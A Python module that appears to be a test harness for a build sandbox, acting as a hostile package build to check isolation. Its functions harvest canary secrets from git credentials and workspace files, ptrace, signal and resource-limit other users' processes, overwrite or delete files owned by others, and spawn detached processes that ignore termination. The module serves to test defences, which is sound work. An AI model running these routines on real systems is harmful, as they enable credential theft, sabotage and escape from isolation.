"""What hostile builds have in common. Each process that it starts ends within a minute."""
# It uses os for paths, as such programs do, and its functions are called at once.
# Hostile code calls the system as directly as it can, in loops of deeds that run at once.
# ruff: noqa: B023, PTH100, PTH101, PTH102, PTH104, PTH108, PTH113, PTH116, PTH118, PTH120, PTH123, PTH207, PTH208, PTH211
# ruff: noqa: SIM115

import contextlib
import ctypes
import glob
import io
import os
import re
import resource
import select
import shutil  # noqa: F401 - for the attacks
import signal
import stat
import subprocess
import sys
import tarfile
import time
import zipfile
from collections.abc import Callable, Iterator

ROOM = ""
NUMBER = 0
HERE = os.path.dirname(os.path.abspath(__file__))
LIMIT = 60
LARGEST = 256 * 1024

ROOM = ROOM.rstrip("/")
GITHUB = f"{ROOM}/github"
WORKSPACE = f"{GITHUB}/workspace"
TMP = f"{ROOM}/tmp"
LOOT = f"{TMP}/loot"
SCRATCH = "/srv/gar-publish"
SECRETS = (
    f"{GITHUB}/file_commands/*",
    f"{GITHUB}/home/*",
    f"{WORKSPACE}/.git/config",
    f"{WORKSPACE}/.git/credentials",
    f"{WORKSPACE}/*.json",
)
_CANARY = re.compile(r"canary-[0-9a-f]+")

libc = ctypes.CDLL(None, use_errno=True)
_noted: set[str] = set()


def note(text: str) -> None:
    """Write down what was read, or what worked."""
    if text in _noted:
        return
    _noted.add(text)
    with open(f"{LOOT}/{os.getuid()}-{os.getpid()}", "a") as loot:
        loot.write(f"{text}\n")


def attempt(what: str, deed: Callable[[], object]) -> None:
    """Note what works although it should not."""
    with contextlib.suppress(OSError, ValueError):
        if deed() is not False:
            note(f"worked: {what}")


def read(path: str) -> None:
    """Note the secrets in a file."""
    with contextlib.suppress(OSError):
        descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        with os.fdopen(descriptor, "rb") as file:
            text = file.read(LARGEST).decode(errors="replace")
        for secret in set(_CANARY.findall(text)):
            note(f"read {secret} in {path}")


def read_secrets() -> None:
    for pattern in SECRETS:
        for path in glob.glob(pattern):
            read(path)
    for path in glob.glob(f"{os.environ.get('TMPDIR')}/../*/*"):  # folders that only root writes to, and its own
        read(path)


def begin() -> None:
    """Read secrets now, and leave a process that reads them later."""
    read_secrets()
    detached(watch)


def watch() -> None:
    while True:
        read_secrets()
        time.sleep(0.02)


def ready() -> None:
    """Tell the driver that the attack is under way, and in which process."""
    with open(f"{TMP}/ready-{os.getpid()}", "w") as file:
        file.write(str(os.getpid()))
    os.rename(file.name, f"{TMP}/ready")


def pause() -> None:
    while True:
        signal.pause()


def detached(deed: Callable[[], object], count: int = 1) -> None:
    """Do something in processes that the build does not wait for."""
    for _ in range(count):
        if child := os.fork():
            os.waitpid(child, 0)
            continue
        os.setsid()
        try:
            if os.fork():
                os._exit(0)
            for number in (signal.SIGHUP, signal.SIGINT, signal.SIGTERM):
                signal.signal(number, signal.SIG_IGN)
            signal.alarm(LIMIT)
            deed()
        finally:
            os._exit(0)


def program(*arguments: str) -> None:
    """Start `hostile.c`, and wait until it is under way, 10 s at most."""
    started = subprocess.Popen([f"{HERE}/hostile", *arguments], stdout=subprocess.PIPE, start_new_session=True)
    assert started.stdout
    select.select([started.stdout], [], [], 10)  # it may have been killed


def has_contents(path: str) -> bool:
    descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    with os.fdopen(descriptor, "rb") as file:  # a process that ends has files without contents
        return bool(file.read(1))


def of_others() -> Iterator[int]:
    """Yield the processes of other users."""
    for name in filter(str.isdigit, os.listdir("/proc")):
        with contextlib.suppress(OSError), open(f"/proc/{name}/status") as status:
            users = re.search(r"^Uid:\t(\d+)\t\d+\t(\d+)", status.read(), re.MULTILINE)
            if users and str(os.getuid()) not in users.groups():
                yield int(name)


def attack_processes() -> None:
    """Try to read, stop, limit and kill the processes of others."""
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    for pid in list(of_others()):
        for name in ("environ", "mem", "maps", "fd/0", "fd/1", "fd/3", "fd/4", "cwd/."):
            attempt(f"read /proc/{pid}/{name}", lambda: has_contents(f"/proc/{pid}/{name}"))
        attempt(f"write mem of {pid}", lambda: os.close(os.open(f"/proc/{pid}/mem", os.O_WRONLY)))
        attempt(f"list files of {pid}", lambda: os.listdir(f"/proc/{pid}/fd"))
        for request in (16, 0x4206):  # PTRACE_ATTACH, PTRACE_SEIZE
            attempt(f"ptrace {pid}", lambda: libc.ptrace(request, pid, None, None) == 0)
        with contextlib.suppress(OSError):
            process = os.pidfd_open(pid)
            for number in range(8):
                attempt(f"take file {number} of {pid}", lambda: libc.syscall(438, process, number, 0) >= 0)
            os.close(process)
        for limit in (resource.RLIMIT_FSIZE, resource.RLIMIT_CPU, resource.RLIMIT_NPROC):
            attempt(f"limit {pid}", lambda: resource.prlimit(pid, limit, (1, 1)))
        for number in (signal.SIGCONT, signal.SIGSTOP, signal.SIGKILL):
            attempt(f"signal {number} to {pid}", lambda: os.kill(pid, number))
    if (group := os.getpgid(os.getppid())) > 1:  # 1 would mean all
        attempt(f"kill process group {group}", lambda: os.killpg(group, signal.SIGKILL))


def attack_files(*roots: str) -> None:
    """Try to write to everything below some folders that is not its own."""
    own = {os.path.realpath(os.environ.get(name, HERE)) for name in ("HOME", "TMPDIR")}
    for root in roots:
        for folder, folders, files in os.walk(root):
            folders[:] = [each for each in folders if os.path.join(folder, each) not in own | {"/proc", "/sys", "/dev"}]
            with contextlib.suppress(OSError):
                status = os.stat(folder)
                if status.st_uid == os.getuid():
                    folders[:] = []
                    continue
                if os.access(folder, os.W_OK) and not status.st_mode & 0o1000:  # /tmp is everybody's
                    note(f"worked: write to {folder}")
            for name in files:
                path = os.path.join(folder, name)
                with contextlib.suppress(OSError):
                    status = os.lstat(path)
                    if stat.S_ISREG(status.st_mode) and status.st_uid != os.getuid() and os.access(path, os.W_OK):
                        note(f"worked: write to {path}")


def overwrite(*patterns: str) -> None:
    """Change, replace and remove files that are not its own."""
    for pattern in patterns:
        for path in glob.glob(pattern, recursive=True):
            with contextlib.suppress(OSError):
                if os.lstat(path).st_uid == os.getuid():
                    continue
            for deed in (
                lambda: open(path, "a").write("attacked = True\n"),
                lambda: os.chmod(path, 0o666),
                lambda: os.utime(path),
                lambda: os.rename(path, f"{path}.attacked"),
                lambda: os.unlink(path),
                lambda: os.symlink("/etc/passwd", f"{path}/attacked"),
                lambda: os.mkdir(f"{path}/sitecustomize"),
            ):
                attempt(f"change {path}", deed)


def exchange(one: str, other: str) -> None:
    """Exchange two files in one step."""
    libc.renameat2(-100, os.fsencode(one), -100, os.fsencode(other), 2)


def attack(folder: str) -> str | None:
    """Do the harm; return a file name in place of the usual one."""


def requires() -> list[str]:
    """Return more build requirements."""
    return []


def wheel(folder: str, name: str = "evil-1.0-py3-none-any.whl") -> str:
    """Make a wheel."""
    with zipfile.ZipFile(f"{folder}/{name}", "w") as archive:
        archive.writestr("evil.py", "x = 1\n")
    return name


def sdist(folder: str) -> str:
    """Make an sdist of this project."""
    with tarfile.open(f"{folder}/evil-1.0.tar.gz", "w:gz") as archive:
        for name in sorted(os.listdir(HERE)):
            if os.path.isfile(f"{HERE}/{name}"):
                archive.add(f"{HERE}/{name}", f"evil-1.0/{name}")
    return "evil-1.0.tar.gz"


def pack(folder: str, *members: tarfile.TarInfo) -> str:
    """Make an sdist of these members; each file is empty."""
    with tarfile.open(f"{folder}/evil-1.0.tar.gz", "w:gz") as archive:
        for member in members:
            archive.addfile(member, io.BytesIO(bytes(member.size)))
    return "evil-1.0.tar.gz"


def member(name: str, kind: bytes = tarfile.REGTYPE, target: str = "", mode: int = 0o644) -> tarfile.TarInfo:
    made = tarfile.TarInfo(name)
    made.type, made.linkname, made.mode = kind, target, mode
    return made


def control() -> str:
    """Return the folder for this hook's answer."""
    return sys.argv[-1]


def answer(text: str) -> None:
    """Give an answer of one's own, and end."""
    with open(f"{control()}/output.json", "w") as file:
        file.write(text)
    os._exit(0)
